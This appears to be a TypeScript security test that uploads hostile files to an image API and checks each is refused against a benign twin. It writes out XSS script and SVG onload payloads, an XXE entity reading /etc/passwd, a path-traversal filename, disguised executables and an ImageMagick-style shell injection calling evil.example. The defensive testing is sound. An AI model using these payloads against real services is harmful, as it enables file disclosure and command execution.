import sharp from "sharp";
import { isRefused, type Pair, type Reply, type World } from "./world";

const ascii = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "latin1"));
const joined = (...parts: Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));
/** What is made anew from its pixels may be taken, whatever hung on to it. */
const noFault = ({ status }: Reply): boolean => status < 500;

/** Files that are not what they say, or are made to do harm when they are opened. */
export async function upload({ send, keys }: World): Promise<Pair[]> {
  const base = sharp({ create: { width: 64, height: 64, channels: 3, background: "#888888" } });
  const png = new Uint8Array(await base.clone().png().toBuffer());
  const jpeg = new Uint8Array(await base.clone().jpeg().toBuffer());
  const webp = new Uint8Array(await base.clone().webp().toBuffer());
  const post = (body: Uint8Array | FormData, type?: string) =>
    send("/api/v1/images", {
      method: "POST",
      token: keys.all,
      body,
      ...(type === undefined ? {} : { headers: { "content-type": type } }),
    });
  const noise = ascii("nothing that a decoder knows ".repeat(20));
  const files: [string, Uint8Array, string][] = [
    ["nothing", new Uint8Array(), "image/png"],
    ["a page", ascii("<!doctype html><script>alert(1)</script>"), "image/png"],
    [
      "a drawing with a script",
      ascii('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      "image/svg+xml",
    ],
    [
      "a drawing that reads a file",
      ascii('<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
      "image/png",
    ],
    ["a program", joined(ascii("MZ\x90\x00"), noise), "image/png"],
    ["an archive", joined(ascii("PK\x03\x04"), noise), "image/jpeg"],
    ["a PDF", joined(ascii("%PDF-1.7\n"), noise), "image/png"],
    ["a GIF", joined(ascii("GIF89a"), noise), "image/png"],
    ["a bitmap", joined(ascii("BM"), noise), "image/png"],
    ["a TIFF", joined(ascii("II*\x00"), noise), "image/jpeg"],
    ["a PNG's head and noise", joined(png.slice(0, 8), noise), "image/png"],
    ["half a PNG", png.slice(0, Math.floor(png.length / 2)), "image/png"],
    ["a JPEG's head and noise", joined(jpeg.slice(0, 4), noise), "image/jpeg"],
    ["a WebP's head and noise", joined(webp.slice(0, 12), noise), "image/webp"],
    ["a PNG of 65535 by 65535", sized(png, 65535, 65535), "image/png"],
    ["a PNG of no size", sized(png, 0, 0), "image/png"],
    ["a call to a shell", ascii("push graphic-context\nfill 'url(https://evil.example|id)'"), "image/png"],
  ];
  const twin = () => post(png, "image/png");
  const asBody = files.map(([name, bytes, type]) => ({
    name: `${name} as ${type}`,
    hostile: () => post(bytes, type),
    twin,
  }));
  const form = (fill: (form: FormData) => void) => {
    const made = new FormData();
    fill(made);
    return post(made);
  };
  const blob = (bytes: Uint8Array) => new Blob([bytes as BlobPart], { type: "image/png" });
  const forms: Pair[] = [
    {
      name: "a form without a file",
      hostile: () => form((f) => f.set("file", "text")),
      twin: () => form((f) => f.set("file", blob(png))),
    },
    { name: "a form with a page", hostile: () => form((f) => f.set("file", blob(ascii("<html>")))), twin },
    { name: "a form without its boundary", hostile: () => post(png, "multipart/form-data"), twin },
    {
      name: "a file that is called ../../etc/passwd",
      hostile: () => form((f) => f.set("file", blob(png), "../../etc/passwd")),
      refused: noFault,
      twin,
    },
    {
      name: "a picture with a page behind it",
      hostile: () => post(joined(png, ascii("<script>")), "image/png"),
      refused: noFault,
      twin,
    },
  ];
  return [...asBody, ...forms].map((pair) => ({ refused: isRefused, ...pair }));
}

/** A PNG whose head says another size. The checksum no longer fits either. */
function sized(png: Uint8Array, width: number, height: number): Uint8Array {
  const copy = png.slice();
  const view = new DataView(copy.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  return copy;
}
